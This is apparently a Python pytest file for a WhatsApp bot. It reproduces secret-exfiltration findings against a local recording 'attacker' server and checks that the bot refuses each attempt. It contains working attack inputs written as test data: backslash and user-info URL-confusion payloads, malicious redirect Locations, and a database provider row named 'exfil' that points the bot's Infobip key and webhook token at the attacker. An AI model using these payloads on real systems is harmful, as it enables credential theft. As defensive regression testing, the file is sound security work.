"""No secret leaves (issue 8, part 4): every exfiltration the security run found, reproduced against a real local
"attacker" HTTP server that records whatever reaches it. Each case first shows that the HTTP stack really would
deliver to the attacker (so the test can fail), then asserts the bot refuses before a byte is sent, and that the
user-visible outcome is a clear refusal: media not transcribed (the polite answer), a tool isError, a config
error naming the variable and the rule (never a value).
"""
from __future__ import annotations

import dataclasses
import json
import logging
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import psycopg
import pytest
import requests
from psycopg.rows import dict_row
from werkzeug.wrappers import Request, Response

import factories
from conftest import fresh_dsn
from fake_http_api import FakeHttpApi
from helpers import AUTH, GAMMA_LLM_KEY, INFOBIP_KEY, NUMBERS, WEBHOOK_TOKEN, inbound, new_user, wait_for
from devtools import cli
from shared.db.migrate import migrate_tenant
from shared.errors import ConfigError
from shared.delivery.infobip.client import InfobipClient, MediaRefused
from shared.config.providers import ProviderCache, resolve_llm
from devtools.localserver import LocalServer
from shared.config.settings import load_settings
from shared.config.tenants import parse_tenants
from shared.tools.base import ToolContext, ToolError
from shared.config.http_tools import parse_http_tool_specs
from shared.tools.registry import build_registry

MEDIA_PATH = "/whatsapp/1/senders/447000000000/media/"
TOOL_SECRET = "tool-secret-header-9f8e7d6c"
HELLO = [{"role": "system", "content": "You are the assistant of Gamma Gym."}, {"role": "user", "content": "hello"}]


class Attacker(LocalServer):
    """A foreign host: records every request (path and headers) and answers 401, as a key collector would."""

    thread_name = "attacker"

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.seen: list[dict] = []
        super().__init__("127.0.0.1", 0)

    def _wsgi(self, environ, start_response):
        request = Request(environ)
        with self._lock:
            self.seen.append({"path": request.full_path, "headers": dict(request.headers)})
        body = json.dumps({"error": {"message": "Incorrect API key provided", "code": "invalid_api_key"}})
        return Response(body, status=401, mimetype="application/json")(environ, start_response)

    def secrets_seen(self, *secrets: str) -> list[str]:
        """Each of `secrets` found in any header of any request received."""
        with self._lock:
            text = json.dumps(self.seen)
        return [s for s in secrets if s in text]

    def reset(self) -> None:
        with self._lock:
            self.seen.clear()


@pytest.fixture(scope="module")
def attacker():
    server = Attacker().start()
    yield server
    server.stop()


@pytest.fixture
def evil(attacker) -> Attacker:
    attacker.reset()
    return attacker


def would_reach(url: str, attacker: Attacker) -> bool:
    """Control: requests itself, asked for `url`, connects to the attacker (so the URL is a real exfiltration)."""
    before = len(attacker.seen)
    try:
        requests.get(url, headers={"X-Probe": "harmless"}, timeout=5, allow_redirects=False)
    except requests.RequestException:
        return False
    return len(attacker.seen) > before


# ---------------------------------------------------------------- (a) media URLs and the Infobip key

def confusing_media_urls(attacker: Attacker, infobip_url: str, mid: str) -> dict[str, str]:
    infobip_authority = infobip_url.split("//", 1)[1]
    return {
        # the case: urlsplit sees the Infobip host after '@', requests/urllib3 the attacker before '\'
        "backslash userinfo": f"http://127.0.0.1:{attacker.port}\\@{infobip_authority}{MEDIA_PATH}{mid}",
        "backslash userinfo, named host": f"http://localhost:{attacker.port}\\@{infobip_authority}{MEDIA_PATH}{mid}",
        # plain userinfo: both parsers agree on the attacker, but user info never belongs in a media URL
        "userinfo": f"http://{infobip_authority}@127.0.0.1:{attacker.port}{MEDIA_PATH}{mid}",
    }


def test_a_confusing_media_url_never_gets_the_infobip_key(sandbox, evil):
    infobip = InfobipClient(sandbox.url, INFOBIP_KEY)
    mid = f"media-{uuid.uuid4().hex[:12]}"
    sandbox.add_media(mid, b"OggS\x00voice", "audio/ogg")
    for case, url in confusing_media_urls(evil, sandbox.url, mid).items():
        if case.startswith("backslash"):
            assert would_reach(url, evil), f"{case}: the reproduction no longer reaches the attacker"
            evil.reset()
        with pytest.raises(MediaRefused) as refused:
            infobip.download_media(url)
        assert evil.seen == [], case
        assert "not sending the key" in str(refused.value) and INFOBIP_KEY not in str(refused.value)
    # The genuine URL still works, and the key went to Infobip only.
    assert infobip.download_media(sandbox.url + MEDIA_PATH + mid) == b"OggS\x00voice"
    assert evil.seen == []


def test_the_key_goes_only_to_the_tenants_infobip_host_and_port(sandbox, evil):
    infobip = InfobipClient(sandbox.url, INFOBIP_KEY)
    same_port_other_host = sandbox.url.replace("127.0.0.1", "localhost") + MEDIA_PATH + "x"
    with pytest.raises(MediaRefused, match="not on the tenant's Infobip base URL"):
        infobip.download_media(same_port_other_host)
    for bad in (f"{sandbox.url}{MEDIA_PATH}x\ty", f"{sandbox.url}{MEDIA_PATH}\x00", "ftp://127.0.0.1/x"):
        with pytest.raises(MediaRefused):
            infobip.download_media(bad)
    assert not [r for r in sandbox.requests() if r["path"].endswith("/media/x")]


def test_a_voice_note_with_a_confusing_url_is_answered_politely_and_leaks_nothing(client, worker, sandbox, evil):
    """End to end: webhook -> Redis -> worker (gamma transcribes with OpenAI) -> the polite "can't read" answer."""
    mid = f"media-{uuid.uuid4().hex[:12]}"
    sandbox.add_media(mid, b"OggS\x00Book me for Tuesday", "audio/ogg")
    url = confusing_media_urls(evil, sandbox.url, mid)["backslash userinfo"]
    user = new_user()
    resp = client.post("/webhooks/infobip", json=inbound(NUMBERS["gamma"], user, {"type": "VOICE", "url": url}),
                       headers=AUTH)
    if resp.status_code == 400:  # refused at the door is refused too: the worker never sees it
        assert "url" in json.dumps(resp.get_json())
    else:
        assert resp.status_code == 200, resp.get_json()
        reply = wait_for(lambda: [r for r in sandbox.requests(path="/whatsapp/1/message/text")
                                  if r["json"]["to"] == user], 30, what="the polite reply")
        assert "can't read" in reply[0]["json"]["content"]["text"]
    assert evil.seen == []
    assert not evil.secrets_seen(INFOBIP_KEY, WEBHOOK_TOKEN)


# ---------------------------------------------------------------- (b) HTTP tools: URLs and redirects

@pytest.fixture
def api():
    server = FakeHttpApi().start()
    yield server
    server.stop()


class RawRedirect:
    """An API answering every GET with 302 and a Location sent byte for byte (werkzeug would encode a '\\')."""

    def __init__(self) -> None:
        self.location = ""
        self.seen: list[dict] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                outer.seen.append({"path": self.path, "headers": dict(self.headers)})
                self.send_response(302)
                self.send_header("Location", outer.location)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host, self.port = "127.0.0.1", self._server.server_port
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._server.serve_forever, name="raw-redirect", daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def redirector():
    server = RawRedirect()
    yield server
    server.stop()


@pytest.fixture
def ctx(tenants):
    with psycopg.connect(tenants.require("alpha").db_dsn, row_factory=dict_row) as conn:
        user_id = factories.user(conn)["id"]
        yield ToolContext(tenant=tenants.require("alpha"), conn=conn, user_id=user_id, user_phone="447700900123",
                          memory=None, clock=lambda: None)
        conn.rollback()


def tool_doc(url: str, **over) -> dict:
    doc = {"name": "get_weather", "description": "Current weather for a city", "method": "GET", "url": url,
           "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
           "headers": {"X-Api-Key": TOOL_SECRET}, "timeout_seconds": 5, "allow_private_network": True}
    doc.update(over)
    return doc


def http_registry(tenants, *docs):
    alpha = tenants.require("alpha")
    return build_registry(dataclasses.replace(alpha, http_tools=parse_http_tool_specs(list(docs), "alpha")))


def call(registry, ctx, name: str, args: dict) -> tuple[bool, dict]:
    result = registry.call(ctx, name, json.dumps(args))
    return result.is_error, json.loads(result.content)


@pytest.mark.parametrize("location", [
    "http://127.0.0.1:{evil}\\@127.0.0.1:{api}/v1/current?city=Leeds",   # the API's own origin to urlsplit
    "http://localhost:{evil}\\@127.0.0.1:{api}/v1/current?city=Leeds",
    "/\\127.0.0.1:{evil}/v1/current",                                       # a host to browsers, a path to urljoin
])
def test_a_backslash_redirect_does_not_take_the_tools_secret_elsewhere(tenants, ctx, redirector, evil, location):
    redirector.location = location.format(evil=evil.port, api=redirector.port)
    if location.startswith("http"):
        assert would_reach(redirector.location, evil), "the reproduction no longer reaches the attacker"
        evil.reset()
    registry = http_registry(tenants, tool_doc(f"{redirector.url}/v1/away"))
    failed, out = call(registry, ctx, "get_weather", {})
    assert failed and "redirect was refused" in out["error"] and "backslash" in out["error"]
    assert evil.seen == [] and TOOL_SECRET not in json.dumps(out)
    assert redirector.seen[-1]["headers"]["X-Api-Key"] == TOOL_SECRET  # the declared API itself was called


def test_a_redirect_with_user_info_is_refused(tenants, ctx, api, evil):
    api.redirect_target = f"http://{api.host}:{api.port}@127.0.0.1:{evil.port}/v1/current"
    failed, out = call(http_registry(tenants, tool_doc(f"{api.url}/v1/away")), ctx, "get_weather", {})
    assert failed and "user name or password" in out["error"]
    assert evil.seen == []


@pytest.mark.parametrize("url, rule", [
    ("http://127.0.0.1:{evil}\\@127.0.0.1:{api}/v1/current?city={{city}}", "url may not contain a backslash"),
    ("http://127.0.0.1:{api}@127.0.0.1:{evil}/v1/current?city={{city}}", "url may not carry a user name or password"),
    ("http://127.0.0.1:{api}/v1/cur rent?city={{city}}", "url may not contain spaces or control characters"),
])
def test_a_confusing_tool_url_is_a_config_error_naming_the_tool_and_the_rule(tenants, api, evil, url, rule):
    doc = tool_doc(url.format(evil=evil.port, api=api.port),
                   parameters={"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]})
    with pytest.raises(ConfigError, match=f"tenant alpha http tool get_weather: {rule}") as err:
        parse_http_tool_specs([doc], "alpha")
    assert TOOL_SECRET not in str(err.value)


# ---------------------------------------------------------------- (d) server-bound values in the query string

def bound_tool(api, **over) -> dict:
    return tool_doc(f"{api.url}/v1/current?city={{user_phone}}", **{
        "parameters": {"type": "object", "properties": {}}, **over})


def test_the_model_cannot_override_user_phone_in_the_query_string(tenants, ctx, api):
    registry = http_registry(tenants, bound_tool(api))
    schema = registry.get("get_weather").openai_schema()["function"]["parameters"]
    assert schema["additionalProperties"] is False  # the model is told, and the registry enforces it

    failed, out = call(registry, ctx, "get_weather", {"city": "15550009999"})  # another user's number
    assert failed and "'city' was unexpected" in out["error"]
    # Past the schema too (belt and braces): the tool itself refuses an undeclared argument.
    with pytest.raises(ToolError, match="unknown argument"):
        registry.get("get_weather").invoke(ctx, {"city": "15550009999"})
    assert all(r["query"].get("city") == ["447700900123"] for r in api.requests_seen("/v1/current"))

    failed, out = call(registry, ctx, "get_weather", {})
    assert not failed and out["city"] == "447700900123"
    assert api.requests_seen("/v1/current")[-1]["query"] == {"city": ["447700900123"]}


def test_a_parameter_that_would_repeat_a_query_key_is_a_config_error(tenants, api):
    shadow = bound_tool(api, parameters={"type": "object", "properties": {"city": {"type": "string"}}})
    with pytest.raises(ConfigError, match="parameters.properties.city would repeat the url's query key city"):
        parse_http_tool_specs([shadow], "alpha")
    open_schema = bound_tool(api, parameters={"type": "object", "properties": {}, "additionalProperties": True})
    with pytest.raises(ConfigError, match="additionalProperties must be false"):
        parse_http_tool_specs([open_schema], "alpha")


# ---------------------------------------------------------------- (c) api_key_envs of llm_providers rows

@pytest.fixture
def own_tenant(pg_url, fake_openai):
    """A tenant on a database of its own, whose tenants.yaml provider is the fake OpenAI (the trusted one)."""
    env = {"REDIS_URL": "redis://127.0.0.1:1/0", "WEBHOOK_VERIFY_TOKEN": WEBHOOK_TOKEN,
           "INFOBIP_BASE_URL": "http://127.0.0.1:1", "INFOBIP_API_KEY": INFOBIP_KEY, "DATABASE_URL_DEFAULT": pg_url}
    doc = {"tenant_id": "eps", "waba_number": "+447000000091", "db_dsn": fresh_dsn(pg_url, "eps"),
           "embedding_model": "local-hash",
           "llm": {"provider": "openai", "base_url": fake_openai.url, "api_key": GAMMA_LLM_KEY, "max_retries": 0}}
    tenant = parse_tenants({"tenants": [doc]}, load_settings(env, dotenv=False), env).require("eps")
    migrate_tenant(tenant)
    return tenant, env


def test_a_provider_row_cannot_borrow_the_bots_own_secrets(own_tenant, evil, caplog):
    tenant, env = own_tenant
    with psycopg.connect(tenant.db_dsn, autocommit=True) as conn:
        # what anyone with write access to the tenant database can do (the CLI would refuse these names)
        factories.llm_provider(conn, name="exfil", base_url=evil.base_url + "/v1",
                               api_key_envs=["INFOBIP_API_KEY", "WEBHOOK_VERIFY_TOKEN"])
        with pytest.raises(ConfigError) as err:
            resolve_llm(tenant, conn, env)
        message = str(err.value)
        assert "'exfil'" in message and "INFOBIP_API_KEY" in message and "WABOT_LLM_KEY_" in message
        assert INFOBIP_KEY not in message and WEBHOOK_TOKEN not in message

        caplog.set_level(logging.ERROR, logger="shared.config.providers")
        llm = ProviderCache(env=env).get(tenant, conn)  # what a worker does: the turn goes on with tenants.yaml
        answer = llm.chat(HELLO)
    assert answer.content and answer.model
    assert evil.seen == [], "the foreign base_url got a request"
    assert not evil.secrets_seen(INFOBIP_KEY, WEBHOOK_TOKEN)
    [logged] = [r for r in caplog.records if "unusable" in r.getMessage()]
    assert "INFOBIP_API_KEY" in logged.error and INFOBIP_KEY not in logged.error


def test_only_allowlisted_variables_may_hold_llm_keys(own_tenant, evil):
    tenant, env = own_tenant
    with psycopg.connect(tenant.db_dsn, autocommit=True) as conn:
        factories.llm_provider(conn, name="custom", base_url=evil.base_url + "/v1", api_key_envs=["MY_OPENAI_KEY"])
        env = {**env, "MY_OPENAI_KEY": "sk-test-custom-0123456789"}
        with pytest.raises(ConfigError, match="variable MY_OPENAI_KEY is not allowed in api_key_envs"):
            resolve_llm(tenant, conn, env)
        # The operator allows it explicitly: it is used (the row is then trusted with that key).
        assert resolve_llm(tenant, conn, {**env, "LLM_KEY_ENVS_ALLOWED": "OTHER, MY_OPENAI_KEY"}).keys \
            == ("sk-test-custom-0123456789",)
        # ... but the bot's own secrets can never be allowed.
        with pytest.raises(ConfigError, match="LLM_KEY_ENVS_ALLOWED: INFOBIP_API_KEY may not be allowed"):
            resolve_llm(tenant, conn, {**env, "LLM_KEY_ENVS_ALLOWED": "INFOBIP_API_KEY"})
    assert evil.seen == []


def test_tenants_yaml_follows_the_same_rule(pg_url):
    env = {"REDIS_URL": "redis://127.0.0.1:1/0", "WEBHOOK_VERIFY_TOKEN": WEBHOOK_TOKEN, "DATABASE_URL_DEFAULT": pg_url,
           "INFOBIP_BASE_URL": "http://127.0.0.1:1", "INFOBIP_API_KEY": INFOBIP_KEY,
           "WABOT_LLM_KEY_MAIN": "sk-test-main-0123456789"}
    settings = load_settings(env, dotenv=False)

    def parse(envs: list[str]):
        doc = {"tenant_id": "y", "waba_number": "+447000000092", "embedding_model": "local-hash",
               "llm": {"provider": "openai", "api_key_envs": envs}}
        return parse_tenants({"tenants": [doc]}, settings, env).require("y").llm

    assert parse(["WABOT_LLM_KEY_MAIN"]).keys == ("sk-test-main-0123456789",)
    with pytest.raises(ConfigError, match="tenant y: llm: environment variable WEBHOOK_VERIFY_TOKEN is not allowed") \
            as err:
        parse(["WEBHOOK_VERIFY_TOKEN"])
    assert WEBHOOK_TOKEN not in str(err.value)


def test_the_cli_refuses_a_foreign_variable_name(pg_url, tmp_path, monkeypatch, capsys):
    dsn = fresh_dsn(pg_url, "cli")
    (tmp_path / "tenants.yaml").write_text(f'tenants:\n  - tenant_id: zeta\n    waba_number: "+447000000093"\n'
                                           f'    db_dsn: "{dsn}"\n    embedding_model: local-hash\n')
    for k, v in {"REDIS_URL": "redis://127.0.0.1:1/0", "WEBHOOK_VERIFY_TOKEN": WEBHOOK_TOKEN,
                 "INFOBIP_BASE_URL": "http://127.0.0.1:1", "INFOBIP_API_KEY": INFOBIP_KEY,
                 "TENANTS_FILE": str(tmp_path / "tenants.yaml"),
                 "LLM_PROVIDER": "mock", "DATABASE_URL_DEFAULT": pg_url}.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("LLM_KEY_ENVS_ALLOWED", raising=False)
    monkeypatch.chdir(tmp_path)
    assert cli.main(["migrate", "--tenant", "zeta"]) == 0
    capsys.readouterr()
    assert cli.main(["providers", "add", "--tenant", "zeta", "--name", "exfil", "--provider", "openai",
                     "--base-url", "http://127.0.0.1:9/v1", "--api-key-env", "INFOBIP_API_KEY"]) == 2
    err = capsys.readouterr().err
    assert "INFOBIP_API_KEY is not allowed in api_key_envs" in err and "WABOT_LLM_KEY_" in err
    assert INFOBIP_KEY not in err
    with psycopg.connect(dsn) as conn:
        assert conn.execute("SELECT count(*) FROM llm_providers").fetchone()[0] == 0
